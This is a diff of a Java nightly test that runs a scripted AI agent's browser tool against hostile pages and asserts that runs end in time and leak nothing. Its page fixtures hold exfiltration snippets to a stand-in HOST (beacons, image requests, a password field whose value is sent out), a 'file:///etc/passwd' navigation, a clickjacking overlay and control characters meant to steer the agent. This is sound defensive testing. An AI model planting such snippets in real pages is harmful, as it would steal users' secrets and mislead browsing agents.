@@ -9,6 +9,7 @@ import dev.cadre.budget.Budget;
 import dev.cadre.computer.Approval;
 import dev.cadre.computer.ApprovalRule;
 import dev.cadre.computer.ComputerUse;
+import dev.cadre.computer.Environment;
 import dev.cadre.computer.Scene;
 import dev.cadre.computer.Screenshots;
 import dev.cadre.model.ComputerTool;
@@ -20,7 +21,9 @@ import dev.cadre.task.TaskGraph;
 import dev.cadre.testing.ScriptedModel;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.EnumSet;
 import java.util.List;
+import java.util.Set;
 import java.util.concurrent.CopyOnWriteArrayList;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.extension.ExtendWith;
@@ -29,14 +32,17 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.EnumSource;
 
 /**
- * Whole runs against pages that want to hang, hide, deceive or get away: they end in time, and nothing leaves. At night only,
- * because a busy machine may take the time of a run to start its browser.
+ * Whole runs against pages that want to hang, hide, deceive or get away: they end in time, and nothing leaves. Each has a
+ * browser of its own, which has started before the time of the run begins. At night only, because that takes minutes.
  */
 @Tag("nightly")
 @ExtendWith(RequiresChromium.class)
 class HostilePageTest {
     private static final Duration DEADLINE = Duration.ofSeconds(5);
     private static final Duration GRACE = Duration.ofSeconds(1);
+    private static final String TYPED = "s3cret";
+    /** Of what a rule is shown of a page. */
+    private static final int LONGEST = 3_000;
 
     /** Pages whose place to click is at 56,366; {@code HOST} is nobody's to reach. */
     enum Page {
@@ -44,7 +50,7 @@ class HostilePageTest {
         SCRIPT_THAT_HANGS_ON_A_CLICK("<button style=top:350px onclick='while (true);'>go</button>"),
         SCRIPT_THAT_HANGS_WHEN_HOVERED("<button style=top:350px onmousemove='while (true);'>go</button>"),
         DIALOGS_WITHOUT_END("<script>setInterval(() => alert(prompt('http://HOST/')), 1)</script>"),
-        DIALOG_WHEN_LEFT("<script>onbeforeunload = () => 'stay'; setInterval(() => location.reload(), 50)</script>"),
+        DIALOG_WHEN_LEFT("<script>onbeforeunload = () => 'stay'; setInterval(() => location.reload(), 1000)</script>"),
         RELOADS_WITHOUT_END("<script>location.reload()</script>"),
         FRAMES_WITHIN_FRAMES("<iframe src=/></iframe><iframe src='/?a'></iframe><iframe src=http://HOST/></iframe>"),
         PAGE_OF_A_MILLION_NODES(
@@ -52,18 +58,18 @@ class HostilePageTest {
         TITLE_OF_TEN_MEGABYTES("<script>document.title = 'x'.repeat(1e7)</script>"),
         ADDRESS_OF_A_MEGABYTE("<script>history.pushState(0, '', '/' + 'x'.repeat(1e6))</script>"),
         POP_UPS_WITHOUT_END(
-                "<button style=top:350px onclick=\"setInterval(() => open('http://HOST/'), 1)\">go</button>"),
+                "<button style=top:350px onclick=\"const go = () => window.open('http://HOST/'); go(); setInterval(go, 20)\">go</button>"),
         PAGE_THAT_CLOSES_ITSELF("<script>setTimeout(() => close(), 300)</script>"),
         PRINTING("<script>setInterval(print, 10)</script>"),
         OTHER_PROGRAMS(
-                "<script>for (const s of ['mailto:a', 'tel:1', 'file:///etc/passwd', 'view-source:http://HOST', 'x-y:HOST']) open(s)</script>"),
+                "<button style=top:350px onclick=\"for (const s of ['mailto:a', 'tel:1', 'file:///etc/passwd', 'x-y:HOST', 'http://HOST/']) location = s\">go</button>"),
         STEERING_TEXT(
                 "<button style=top:350px name='\u001b[2J\u202e\u200b'>go</button><script>document.title = '\\u001b]0;x\\u0007\\u2066'</script>"),
         COVERED_BUTTON(
                 "<style>form:hover i { display: none } i { position: absolute; top: 350px; left: 40px; width: 400px; height: 32px }</style>"
                         + "<form method=post action=/order><button style=top:350px>Buy</button><i>harmless</i></form>"),
         PASSWORD_THAT_SHOWS(
-                "<input id=p type=password style=top:350px name=word><script>p.type = 'text'; p.oninput = () => fetch('http://HOST/' + p.value)</script>"),
+                "<input id=p type=password style=top:350px name=word><script>p.type = 'text'; p.oninput = () => fetch('/' + p.value)</script>"),
         EVERY_WAY_OUT_AT_ONCE(
                 "<script>for (let i = 0; i < 500; i++) { new Image().src = 'http://HOST/' + i;"
                         + " navigator.sendBeacon('http://HOST/', 'x');"
@@ -76,6 +82,13 @@ class HostilePageTest {
             this.html = html;
         }
     }
+
+    /** Pages on which nothing may ever be looked at. */
+    private static final Set<Page> HANGING = EnumSet.of(
+            Page.ENDLESS_SCRIPT,
+            Page.SCRIPT_THAT_HANGS_WHEN_HOVERED,
+            Page.RELOADS_WITHOUT_END,
+            Page.PAGE_OF_A_MILLION_NODES);
 
     record Order(String name) {}
 
@@ -92,7 +105,9 @@ class HostilePageTest {
     @EnumSource(Page.class)
     void run_againstAHostilePage_endsInTime_andNothingLeaves(Page page) throws Exception {
         try (Canary canary = Canary.open();
-                FormServer site = new FormServer()) {
+                FormServer site = new FormServer();
+                Chromium browser = Chromium.empty(
+                        ChromiumProcess.find().orElseThrow(), Set.of(Chromium.origin(site.address())))) {
             site.with(page.html.replace("HOST", "127.0.0.1:" + canary.port()));
             var scenes = new CopyOnWriteArrayList<Scene>();
             ApprovalRule rule = (action, scene) -> {
@@ -101,7 +116,10 @@ class HostilePageTest {
             };
 
             var model = new ScriptedModel();
-            var fill = fill(site, rule, model);
+            var fill = fill(rule, model, () -> {
+                browser.begin(site.address());
+                return browser;
+            });
             var graph = TaskGraph.builder();
             var filled = graph.add("fill", fill, new Order("Ada"));
             Coordinator coordinator = Coordinator.builder(model.pools())
@@ -113,22 +131,28 @@ class HostilePageTest {
             var took = Duration.ofNanos(System.nanoTime() - start);
 
             assertThat(took).as("%s", result).isLessThan(DEADLINE.plus(GRACE));
+            assertThat(site.asked()).as("the page").contains("GET /").noneMatch(path -> path.contains(TYPED));
+            if (!HANGING.contains(page)) {
+                assertThat(scenes).as("%s", result).isNotEmpty();
+            }
             assertThat(canary.isReached(0)).isFalse();
             assertThat(site.posted()).isEmpty();
             assertThat(scenes)
                     .allSatisfy(scene -> assertThat(scene.address() + scene.title() + scene.target())
+                            .hasSizeLessThan(LONGEST)
                             .doesNotContainPattern("[\\p{Cc}\\p{Cf}]"));
         }
+        assertThat(ProcessHandle.current().descendants()).as("left behind").isEmpty();
     }
 
-    private SubtaskType<Order, Filled> fill(FormServer site, ApprovalRule rule, ScriptedModel model) {
+    private SubtaskType<Order, Filled> fill(ApprovalRule rule, ScriptedModel model, Environment.Source source) {
         var fill = SubtaskType.model("fill", Order.class, Filled.class, "Fill in the form.")
                 .startingAt(Tier.MINI)
-                .tools(ComputerUse.of(Chromium.startingAt(site.address()), rule, folder, Filled.class, Filled::shown));
+                .tools(ComputerUse.of(source, rule, folder, Filled.class, Filled::shown));
         var script = model.on(fill);
         for (int i = 0; i < 3; i++) {
             script.calls(new ToolCall("click" + i, ComputerTool.NAME, """
-                    {"actions":[{"type":"click","x":56,"y":366,"button":"left"},{"type":"type","text":"s3cret"}]}"""));
+                    {"actions":[{"type":"click","x":56,"y":366,"button":"left"},{"type":"type","text":"%s"}]}""".formatted(TYPED)));
         }
         script.replies(new Filled("done", List.of()));
         return fill;
